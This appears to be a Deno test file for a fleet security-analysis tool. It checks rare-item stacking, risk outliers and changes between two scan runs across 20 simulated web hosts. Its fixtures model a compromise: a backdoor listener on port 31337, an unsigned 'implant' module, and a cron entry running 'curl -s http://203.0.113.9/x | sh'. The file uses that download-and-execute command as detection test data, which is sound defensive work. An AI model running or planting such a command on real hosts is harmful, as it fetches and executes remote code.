/**
 * The fleet analysis over two runs of a 20-host fleet made from real reports: stacking with rare items first,
 * outliers by z-score, and what changed between the runs (propagation, risk movers, new and silent hosts).
 */
import assert from "node:assert/strict";
import type { Report } from "../../src/core/report.ts";
import { parseRareThreshold, rareHosts } from "../../src/fleet/analyze.ts";
import { makeTree } from "../helpers.ts";
import { finding, fleet, NOW, richReport, stack, vary, writeReport } from "./helpers.ts";

const DAY1 = "2026-05-30T08:00:00.000Z";
const DAY2 = "2026-05-31T08:00:00.000Z";
const names = Array.from({ length: 20 }, (_, i) => `web-${String(i).padStart(2, "0")}`);

const backdoor = finding("net.listen.suspicious_port", "tcp:0.0.0.0:31337", {
  protocol: "tcp",
  local_port: 31337,
  exe: "/tmp/.x/backdoor",
  comm: "backdoor",
}, 90);
const implant = finding("module.unsigned", "implant", { module: "implant" }, 75);
const cron = finding("persistence.command.download_exec", "/etc/cron.d/upd:1a2b", {
  kind: "cron",
  path: "/etc/cron.d/upd",
  command: "curl -s http://203.0.113.9/x | sh",
}, 80);

async function day1(dir: string, base: Report): Promise<void> {
  for (const h of names) {
    const odd = h === "web-07";
    await writeReport(
      dir,
      `day1/${h}.json`,
      vary(base, { host: h, at: DAY1, risk: odd ? 95 : 40, add: odd ? [backdoor] : [] }),
    );
  }
}

async function day2(dir: string, base: Report): Promise<void> {
  for (const [i, h] of names.entries()) {
    if (h === "web-18" || h === "web-19") continue; // silent this time
    const infected = i < 12;
    const add = [...(h === "web-07" ? [backdoor] : []), ...(infected ? [implant, cron] : [])];
    await writeReport(
      dir,
      `day2/${h}.ndjson`,
      vary(base, {
        host: h,
        at: DAY2,
        risk: h === "web-05" ? 85 : h === "web-07" ? 95 : 40,
        add,
        // three hosts stopped running sshd
        drop: (f) => i >= 13 && i <= 15 && f.metadata.local_port === 22,
      }),
    );
  }
  await writeReport(dir, "day2/new-host.json", vary(base, { host: "new-host", at: DAY2, risk: 40 }));
}

Deno.test("--rare-threshold takes a host count or a share of the fleet", () => {
  assert.equal(rareHosts(parseRareThreshold("3")!, 400), 3);
  assert.equal(rareHosts(parseRareThreshold("5%")!, 400), 20);
  assert.equal(rareHosts(parseRareThreshold("5%")!, 10), 1, "never below one host");
  assert.equal(parseRareThreshold("0"), undefined);
  assert.equal(parseRareThreshold("-1"), undefined);
  assert.equal(parseRareThreshold("101%"), undefined);
  assert.equal(parseRareThreshold("abc"), undefined);
});

Deno.test("a fleet over two runs: stacking, outliers and what changed", async () => {
  using t = makeTree({});
  const base = await richReport();
  const db = `${t.path}/fleet.db`;
  await day1(t.path, base);
  const r1 = (await fleet(["--dir", `${t.path}/day1`, "--db", db], new Date(DAY1))).report!;
  assert.equal(r1.host_count, 20);

  // Stacking: the one host with the backdoor listener stands out; what every host has is not rare.
  const listeners = r1.stacking.find((s) => s.kind === "listener")!;
  assert.deepEqual(listeners.items[0], {
    value: "tcp/31337 backdoor",
    host_count: 1,
    share: 0.05,
    rare: true,
    hosts: ["web-07"],
    more_hosts: 0,
  });
  const ssh = listeners.items.find((i) => i.value === "tcp/22 sshd")!;
  assert.equal(ssh.host_count, 20);
  assert.equal(ssh.rare, false);
  assert.equal(ssh.hosts.length, 10, "host lists are capped (--hosts-per-item)");
  assert.equal(ssh.more_hosts, 10);
  assert.equal(listeners.rare_count, 1);
  assert.deepEqual(r1.rare_threshold, { spec: "5%", hosts: 1 });
  for (const s of r1.stacking) {
    const counts = s.items.map((i) => i.host_count);
    assert.deepEqual(counts, [...counts].sort((a, b) => a - b), `${s.kind}: rarest first`);
  }
  for (
    const kind of ["finding", "listener", "setid", "module", "persistence", "account", "unit", "library"]
  ) {
    assert.ok(stack(r1, kind).size > 0, `the rich host has ${kind} items`);
  }

  // Outliers: web-07's risk is 95 against 40 everywhere else.
  assert.equal(r1.metric_mean, 42.75);
  assert.equal(r1.top_outlier_hosts.length, 1);
  assert.equal(r1.top_outlier_hosts[0].host_id, "web-07");
  assert.ok(r1.top_outlier_hosts[0].z > 4, String(r1.top_outlier_hosts[0].z));
  assert.deepEqual(r1.risk_distribution.map((d) => d.count), [0, 19, 0, 0, 1]);
  assert.equal(r1.changes.previous_run_id, null, "nothing to compare with yet");
  assert.deepEqual(r1.newly_common_modules, []);

  await day2(t.path, base);
  const r2 = (await fleet(["--dir", `${t.path}/day2`, "--db", db], new Date(DAY2))).report!;
  assert.equal(r2.host_count, 21, "the silent hosts stay in the fleet with their last scan");
  const c = r2.changes;
  assert.equal(c.previous_run_id, r1.run.run_id);
  assert.equal(c.compared_hosts, 18);
  assert.deepEqual(c.new_hosts, ["new-host"]);
  assert.deepEqual(c.silent_hosts, ["web-18", "web-19"]);
  const appeared = new Map(c.appeared.map((a) => [`${a.kind} ${a.value}`, a.host_count]));
  assert.equal(appeared.get("module implant"), 12);
  assert.equal(appeared.get("persistence cron:/etc/cron.d/upd: curl -s http://203.0.113.9/x | sh"), 12);
  assert.equal(appeared.get("finding module.unsigned:implant"), 12);
  assert.ok(!appeared.has("listener tcp/31337 backdoor"), "an item already there is not new");
  assert.equal(c.appeared[0].host_count, 12, "largest spread first");
  assert.deepEqual(
    c.disappeared.filter((d) => d.kind === "listener").map((d) => [d.value, d.hosts]),
    [["tcp/22 sshd", ["web-13", "web-14", "web-15"]]],
  );
  assert.deepEqual(r2.newly_common_modules, [{
    module: "implant",
    host_count: 12,
    hosts: [
      "web-00",
      "web-01",
      "web-02",
      "web-03",
      "web-04",
      "web-05",
      "web-06",
      "web-07",
      "web-08",
      "web-09",
    ],
    total_host_count: 12,
  }]);
  assert.deepEqual(c.risk_movers, [{ host: "web-05", from: 40, to: 85, delta: 45 }]);
  const web05 = r2.hosts.find((h) => h.host === "web-05")!;
  assert.deepEqual([web05.previous_risk, web05.delta, web05.reported_in_run], [40, 45, true]);
  assert.equal(r2.hosts.find((h) => h.host === "web-18")!.reported_in_run, false);
  // Twelve of 21 hosts: common now, so not rare.
  assert.equal(
    r2.stacking.find((s) => s.kind === "module")!.items.find((i) => i.value === "implant")!.rare,
    false,
  );

  // A run with no new reports shows the same changes (the latest run that brought scans is compared).
  using empty = makeTree({});
  const r3 = (await fleet(["--dir", empty.path, "--db", db], new Date(NOW))).report!;
  assert.equal(r3.run.ingested, 0);
  assert.equal(r3.run.compared_run_id, r2.run.run_id);
  assert.deepEqual(r3.changes, r2.changes);
  assert.deepEqual(r3.stacking, r2.stacking);
});

Deno.test("--rare-threshold, --spread-min, --max-items and --hosts-per-item shape the lists", async () => {
  using t = makeTree({});
  const base = await richReport();
  await day1(t.path, base);
  const db = `${t.path}/f.db`;
  await fleet(["--dir", `${t.path}/day1`, "--db", db]);
  await day2(t.path, base);
  const r = (await fleet([
    "--dir",
    `${t.path}/day2`,
    "--db",
    db,
    "--rare-threshold",
    "12",
    "--spread-min",
    "13",
    "--max-items",
    "2",
    "--hosts-per-item",
    "1",
  ])).report!;
  assert.deepEqual(r.rare_threshold, { spec: "12", hosts: 12 });
  const modules = r.stacking.find((s) => s.kind === "module")!;
  assert.equal(modules.items.length, 2);
  assert.ok(modules.distinct > 2);
  assert.ok(r.stacking.every((s) => s.items.every((i) => i.hosts.length <= 1)));
  assert.equal(r.stacking.find((s) => s.kind === "module")!.rare_count >= 1, true);
  assert.deepEqual(r.changes.appeared, [], "nothing spread to 13 hosts at once");
  assert.deepEqual(r.newly_common_modules, []);
});
